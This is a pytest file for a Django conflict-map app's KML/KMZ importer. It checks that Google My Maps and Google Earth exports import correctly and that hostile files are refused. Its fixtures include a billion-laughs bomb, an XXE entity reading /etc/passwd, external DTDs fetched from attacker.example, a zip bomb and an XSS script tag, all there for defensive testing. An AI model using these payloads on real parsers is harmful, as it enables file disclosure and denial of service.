"""`manage.py import` of KML and KMZ (conflictmap/imports/kml.py): files shaped like Google My
Maps' and Google Earth's exports, and hostile XML and archives, refused with the database
untouched."""

import io
import zipfile

import pytest
from django.core.management import CommandError, call_command

from conflictmap.editorial.workflow import Status
from conflictmap.events.models import Event
from conflictmap.territory.models import ControlChange
from tests.test_import import counts

# As Google My Maps exports a layer: columns as ExtendedData, HTML descriptions, a folder.
MY_MAPS = """<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2">
  <Document>
    <name>Toyland front line</name>
    <Folder>
      <name>Events</name>
      <Placemark>
        <name>Shelling of the river crossing</name>
        <description><![CDATA[Reported by <b>two</b> outlets<br><script>alert(1)</script>]]></description>
        <styleUrl>#icon-1899-0288D1</styleUrl>
        <ExtendedData>
          <Data name="id"><value>mm-1</value></Data>
          <Data name="date"><value>2020-02-03</value></Data>
          <Data name="type"><value>shelling</value></Data>
          <Data name="fatalities"><value>2</value></Data>
          <Data name="source_url"><value>https://example.org/report</value></Data>
        </ExtendedData>
        <Point><coordinates>10.5,11.2,0</coordinates></Point>
      </Placemark>
      <Placemark>
        <name>Ridge taken</name>
        <ExtendedData>
          <Data name="id"><value>mm-2</value></Data>
          <Data name="date"><value>2020-02-05</value></Data>
          <Data name="controller"><value>green</value></Data>
        </ExtendedData>
        <Polygon><outerBoundaryIs><LinearRing><tessellate>1</tessellate>
          <coordinates>10.2,10.2,0 10.8,10.2,0 10.8,10.8,0 10.2,10.8,0 10.2,10.2,0</coordinates>
        </LinearRing></outerBoundaryIs></Polygon>
      </Placemark>
    </Folder>
  </Document>
</kml>"""

# As Google Earth saves a placemark: a TimeStamp for its date, an id attribute.
EARTH = """<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2" xmlns:gx="http://www.google.com/kml/ext/2.2">
<Document><Placemark id="ge-7">
  <name>Clash near the ridge</name>
  <TimeStamp><when>2020-02-04T06:30:00Z</when></TimeStamp>
  <ExtendedData><Data name="type"><value>clash</value></Data></ExtendedData>
  <Point><gx:drawOrder>1</gx:drawOrder><coordinates>12.5,12.2,0</coordinates></Point>
</Placemark></Document></kml>"""


def run(tmp_path, name: str, data: bytes, *options):
    path = tmp_path / name
    path.write_bytes(data)
    out = io.StringIO()
    call_command("import", str(path), "--theatre", "toyland", *options, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def kmz(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_a_my_maps_export_imports_its_events_and_areas_as_drafts(tmp_path, world):
    assert "2 to create, 0 to update, 0 unchanged, 0 rejected." in run(tmp_path, "front.kml", MY_MAPS.encode())
    run(tmp_path, "front.kml", MY_MAPS.encode(), "--commit")
    event = Event.objects.get(external_id="mm-1")
    assert event.title == "Shelling of the river crossing" and event.fatalities == 2 and event.status == Status.DRAFT
    assert "script" not in event.description and "alert" not in event.description_html
    assert event.sources.get().url == "https://example.org/report"
    change = ControlChange.objects.get(external_id="mm-2")
    assert change.controller == world.green and change.area.extent == pytest.approx((10.2, 10.2, 10.8, 10.8))
    assert "0 to create, 0 to update, 2 unchanged" in run(tmp_path, "front.kml", MY_MAPS.encode(), "--commit")


def test_a_google_earth_placemark_takes_its_date_from_the_timestamp_and_kmz_works(tmp_path, world):
    run(tmp_path, "earth.kmz", kmz({"doc.kml": EARTH.encode(), "files/icon.png": b"\x89PNG"}), "--commit")
    event = Event.objects.get(external_id="ge-7")
    assert event.date.isoformat() == "2020-02-04" and event.type == "clash"


LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&c;</name></Placemark></kml>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&secret;</name></Placemark></kml>"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<kml xmlns="http://www.opengis.net/kml/2.2"/>"""
DOCTYPE_ONLY = b"""<?xml version="1.0"?><!DOCTYPE kml SYSTEM "http://attacker.example/kml.dtd">
<kml xmlns="http://www.opengis.net/kml/2.2"/>"""
BOMB = kmz({"doc.kml": b"<kml xmlns='http://www.opengis.net/kml/2.2'>" + b" " * 30_000_000 + b"</kml>"})
REFUSED = {
    "billion laughs": ("laughs.kml", LAUGHS, "DTD or entities"),
    "external entity": ("external.kml", EXTERNAL, "DTD or entities"),
    "parameter entity": ("parameter.kml", PARAMETER, "DTD or entities"),
    "external DTD": ("doctype.kml", DOCTYPE_ONLY, "DTD or entities"),
    "not well-formed": ("broken.kml", b"<kml xmlns='http://www.opengis.net/kml/2.2'><Placemark>", "well-formed"),
    "not KML": ("svg.kml", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "Not a KML document"),
    "zip bomb": ("bomb.kmz", BOMB, "unzips to"),
    "too many entries": ("many.kmz", kmz({f"{n}.png": b"x" for n in range(150)}), "entries"),
    "no KML in the archive": ("empty.kmz", kmz({"readme.txt": b"hello"}), "no .kml"),
    "not a zip": ("fake.kmz", b"PK\x03\x04 not really", "Not a KMZ"),
    "KML bomb inside KMZ": ("laughs.kmz", kmz({"doc.kml": LAUGHS}), "DTD or entities"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_kml_and_kmz_are_refused_whole(tmp_path, world, name, settings):
    settings.IMPORT_MAX_BYTES = 20 * 2**20
    filename, data, reason = REFUSED[name]
    before = counts()
    with pytest.raises(CommandError, match=reason):
        run(tmp_path, filename, data, "--commit")
    assert counts() == before


def test_a_kmz_whose_kml_is_over_the_size_limit_is_refused(tmp_path, world, settings):
    settings.IMPORT_MAX_BYTES = 50_000
    stored = kmz({"doc.kml": b"<kml xmlns='http://www.opengis.net/kml/2.2'>" + b"<!-- -->" * 10_000 + b"</kml>"},
                 compression=zipfile.ZIP_STORED)  # fmt: skip
    with pytest.raises(CommandError, match="unzips to"):
        run(tmp_path, "big.kmz", stored, "--commit")


def test_bad_placemarks_are_rejected_with_their_reason(tmp_path, world):
    bad = MY_MAPS.replace("10.5,11.2,0", "nan,11.2,0").replace("<value>green</value>", "<value>nobody</value>")
    with pytest.raises(SystemExit):
        run(tmp_path, "bad.kml", bad.encode(), "--commit")
    report = run_dry(tmp_path, bad)
    assert "feature 1: its coordinates are not all finite numbers" in report
    assert "feature 2: its controller 'nobody' is no faction of Toyland" in report


def run_dry(tmp_path, text: str) -> str:
    out = io.StringIO()
    path = tmp_path / "dry.kml"
    path.write_text(text)
    with pytest.raises(SystemExit):
        call_command("import", str(path), "--theatre", "toyland", stdout=out, stderr=io.StringIO())
    return out.getvalue()
